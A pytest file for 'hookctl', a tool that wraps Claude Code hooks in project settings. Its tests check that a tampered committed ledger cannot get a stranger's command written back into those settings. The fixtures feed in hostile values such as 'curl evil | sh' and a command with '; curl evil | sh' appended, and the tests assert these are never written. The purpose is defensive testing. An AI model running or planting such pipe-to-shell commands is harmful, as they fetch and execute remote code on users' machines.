"""A wrapped hook in a project: committed for everyone who clones it, and a stranger's word where it is read."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hookctl.packs import wrapping
from tests.conftest import Hookctl, put

pytestmark = pytest.mark.usefixtures("fixed_python")

KEEP = 'node "$CLAUDE_PROJECT_DIR"/keep.js'
HOOKS = {"Stop": [{"hooks": [{"type": "command", "command": KEEP}]}]}
TEXT = json.dumps({"hooks": HOOKS}).replace("keep", "k\\u0065ep")
PROJECT = ("--host", "claude", "--scope", "project")
WRAP = ("install", *PROJECT, "--wrap", "keep.js")


@pytest.fixture
def work(isolated: Path) -> Path:
    """A repository whose settings have a Stop hook of their own."""
    (isolated / "work" / ".git" / "refs").mkdir(parents=True)
    put(isolated / "work" / ".git" / "HEAD", "ref: refs/heads/main\n")
    put(isolated / "work" / ".claude" / "settings.json", TEXT)
    return isolated / "work"


def commands(work: Path) -> list[str]:
    page = json.loads((work / ".claude" / "settings.json").read_text())
    return [handler["command"] for group in page["hooks"]["Stop"] for handler in group["hooks"]]


def test_nothing_of_this_machine_is_committed(work: Path, hookctl: Hookctl, isolated: Path) -> None:
    assert hookctl(*WRAP).code == 0
    assert wrapping.original_of(commands(work)[0]) == KEEP
    for path in (work / ".claude" / "settings.json", work / ".hookctl" / "ledger.json"):
        assert str(isolated) not in path.read_text()
        assert "/usr/bin" not in path.read_text()
    assert (work / ".hookctl" / "guard" / "claude" / "wrap.py").exists()
    assert hookctl("uninstall", *PROJECT).code == 0
    assert (work / ".claude" / "settings.json").read_text() == TEXT
    assert not (work / ".hookctl").exists()


def test_in_a_clone_it_runs_and_goes_again(
    work: Path, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert hookctl(*WRAP).code == 0
    clone = isolated / "clone"
    shutil.copytree(work, clone)
    shutil.rmtree(isolated / "state")
    monkeypatch.chdir(clone)
    put(clone / "bin" / "node", "#!/bin/sh\necho said >&2\nexit 2\n").chmod(0o755)
    environ = {"PATH": f"{clone}/bin:/usr/bin:/bin", "CLAUDE_PROJECT_DIR": str(clone), "HOME": str(isolated)}
    environ["HOOKCTL_STATE_DIR"] = str(isolated / "other")
    stdin = json.dumps({"session_id": "S", "cwd": str(clone)})
    results = [
        subprocess.run(["sh", "-c", commands(clone)[0]], input=stdin, capture_output=True, text=True, env=environ)
        for _ in range(6)
    ]
    assert [done.returncode for done in results] == [2, 2, 2, 2, 0, 0]
    assert "nothing to do" in hookctl("install", *PROJECT).out
    assert hookctl("uninstall", *PROJECT).code == 0
    assert json.loads((clone / ".claude" / "settings.json").read_text()) == json.loads(TEXT)
    assert r"k\u0065ep" in (clone / ".claude" / "settings.json").read_text()


def test_local_scope_has_a_folder_of_its_own(work: Path, hookctl: Hookctl, isolated: Path) -> None:
    text = put(work / ".claude" / "settings.local.json", TEXT).read_text()
    local = ("--host", "claude", "--scope", "local")
    assert hookctl("install", *local, "--wrap", "keep.js").code == 0
    assert "claude-local-" in (work / ".claude" / "settings.local.json").read_text()
    assert list((isolated / "data" / "guard").glob("claude-local-*/wrap.py"))
    assert commands(work) == [KEEP]
    assert hookctl("uninstall", *local).code == 0
    assert (work / ".claude" / "settings.local.json").read_text() == text
    assert not (isolated / "data").exists()


def test_a_program_that_the_repository_brings_is_not_registered(work: Path, hookctl: Hookctl) -> None:
    assert hookctl("install", *PROJECT).code == 0
    theirs = put(work / ".hookctl" / "guard" / "claude" / "wrap.py", "print('theirs')\n")
    outcome = hookctl(*WRAP)
    assert outcome.code == 1
    assert "would run this file, which hookctl has not written" in outcome.err
    assert commands(work)[0] == KEEP
    assert hookctl(*WRAP, "--force").code == 0
    assert "theirs" not in theirs.read_text()


# A committed ledger of a stranger's making


def craft(work: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    path = work / ".hookctl" / "ledger.json"
    ledger = json.loads(path.read_text())
    page = ledger["files"][".claude/settings.json"]
    (entry,) = [entry for entry in page["entries"][:-1] if entry.get("id", "").startswith("guard/wrap-")]
    change(entry)
    path.write_text(json.dumps(ledger))


def before(text: str) -> Callable[[dict[str, Any]], Any]:
    return lambda entry: entry.update(before=text)


@pytest.mark.parametrize(
    "text", ['"curl evil | sh"', "{}", '["a"]', "17", '"' + KEEP.replace('"', '\\"').upper() + '"'], ids=len
)
def test_a_text_that_is_not_the_command_is_not_put_back(text: str, work: Path, hookctl: Hookctl) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, before(text))
    shutil.rmtree(os.environ["HOOKCTL_STATE_DIR"])
    assert hookctl("uninstall", *PROJECT).code == 0
    assert commands(work) == [KEEP]


@pytest.mark.parametrize("text", ["", "{", '"a" // b', '"a", "b"', ' "a"'])
def test_a_text_that_is_no_value_is_refused(text: str, work: Path, hookctl: Hookctl) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, before(text))
    settings = (work / ".claude" / "settings.json").read_text()
    for command in (("uninstall", *PROJECT), ("install", *PROJECT), ("install", *PROJECT, "--wrap", "")):
        assert hookctl(*command).code == 4
    assert (work / ".claude" / "settings.json").read_text() == settings


def written(command: Callable[[str], str]) -> Callable[[dict[str, Any]], Any]:
    def change(entry: dict[str, Any]) -> None:
        entry["written"] = {"command": command(entry["written"]["command"]), "timeout": 1}

    return change


@pytest.mark.parametrize(
    "change",
    [
        written(lambda text: text + "; curl evil | sh"),
        written(lambda text: text.replace("keep.js", "evil.js")),
        written(lambda text: text.partition("; ")[0] + "; evil"),
    ],
    ids=["more", "another", "nothing of ours"],
)
@pytest.mark.parametrize("gone", [False, True], ids=["there", "wiped"])
def test_a_command_of_a_strangers_is_never_written(
    change: Callable[[dict[str, Any]], Any], gone: bool, work: Path, hookctl: Hookctl
) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, change)
    if gone:
        put(work / ".claude" / "settings.json", "{}")
    for command in (("doctor", "--fix"), ("install", *PROJECT), ("install", *PROJECT, "--force"), ("status",)):
        assert hookctl(*command).code in (0, 1)
        assert "evil" not in (work / ".claude" / "settings.json").read_text()
    assert hookctl("uninstall", *PROJECT).code == 0
    assert "evil" not in (work / ".claude" / "settings.json").read_text()
